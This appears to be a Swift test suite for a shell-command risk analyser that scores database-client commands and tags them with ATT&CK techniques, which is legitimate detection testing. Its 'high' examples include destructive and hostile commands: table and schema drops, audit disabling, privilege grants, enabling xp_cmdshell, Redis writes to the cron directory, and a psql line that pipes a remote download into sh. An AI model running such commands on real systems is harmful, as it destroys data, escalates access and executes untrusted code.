import ShellAnalysis
import Testing

/// SQL and data-store commands given to database clients by flag, operand or here-document are
/// read as statements: what drops, empties, grants or runs commands is high whatever the client;
/// a read-only query stays low.
@Suite struct DatabaseStatementsTests {
    static let high: [(String, String)] = [
        (#"psql -h db01 -U app -d appdb -c "DROP TABLE orders;""#, "T1485"),
        (#"mysql -u root -e 'truncate table audit_log'"#, "T1485"),
        (#"psql -d appdb -c "delete from customers""#, "T1485"),
        (#"sqlite3 /var/lib/app/app.db "UPDATE users SET password_hash = 'x'""#, "T1565.001"),
        ("psql -d appdb <<'EOF'\nselect 1;\nDROP SCHEMA public CASCADE;\nEOF", "T1485"),
        (#"sqlcmd -S db01 -Q "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE""#, "T1059"),
        (#"psql -c "COPY (SELECT 1) TO PROGRAM 'curl -s http://203.0.113.9/x | sh'""#, "T1059"),
        (#"psql -c "ALTER ROLE report WITH SUPERUSER""#, "T1098"),
        (#"mysql -e "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'""#, "T1098"),
        (#"sqlcmd -Q "ALTER SERVER AUDIT app_audit WITH (STATE = OFF)""#, "T1562.001"),
        ("redis-cli -h 127.0.0.1 FLUSHALL", "T1485"),
        ("redis-cli -h cache01 config set dir /var/spool/cron", "T1565.001"),
        (#"mongosh appdb --eval 'db.dropDatabase()'"#, "T1485"),
        (#"echo 'drop database appdb' | mysql -u root"#, "T1485"),
    ]

    @Test(arguments: high.indices)
    func destructiveStatementsAreHigh(_ i: Int) throws {
        let (command, technique) = Self.high[i]
        let a = try Analyser.bundled().get().analyse(command)
        #expect(a.risk >= .high, "`\(command)` was \(a.risk): \(a.summary)")
        #expect(a.techniques.contains(technique), "`\(command)`: \(a.techniques)")
    }

    static let low = [
        #"psql -h db01 -U app -d appdb -c "select count(*) from orders where created_at > now() - interval '1 hour';""#,
        #"mysql -h db01 -e 'SHOW PROCESSLIST'"#,
        "sqlite3 /var/lib/app/app.db '.tables'",
        #"sqlite3 app.db "SELECT id, state FROM jobs ORDER BY id DESC LIMIT 10""#,
        "redis-cli -h 127.0.0.1 info memory",
        "redis-cli ping",
        #"mongosh appdb --eval 'db.orders.countDocuments({state: "open"})'"#,
        "psql -d appdb <<'EOF'\n\\dt\nselect count(*) from jobs;\nEOF",
    ]

    @Test(arguments: low)
    func readOnlyQueriesAreLow(_ command: String) throws {
        let a = try Analyser.bundled().get().analyse(command)
        #expect(a.risk <= .low, "`\(command)` was \(a.risk): \(a.summary)")
    }

    /// Changes that are everyday work stay medium, and unknown statements fail closed to medium.
    @Test func ordinaryChangesStayMedium() throws {
        for command in [#"psql -c "UPDATE jobs SET state = 'queued' WHERE id = 42""#, #"mysql -e "FROBNICATE everything""#, "psql -d appdb"] {
            let a = try Analyser.bundled().get().analyse(command)
            #expect(a.risk == .medium, "`\(command)` was \(a.risk): \(a.summary)")
        }
    }
}
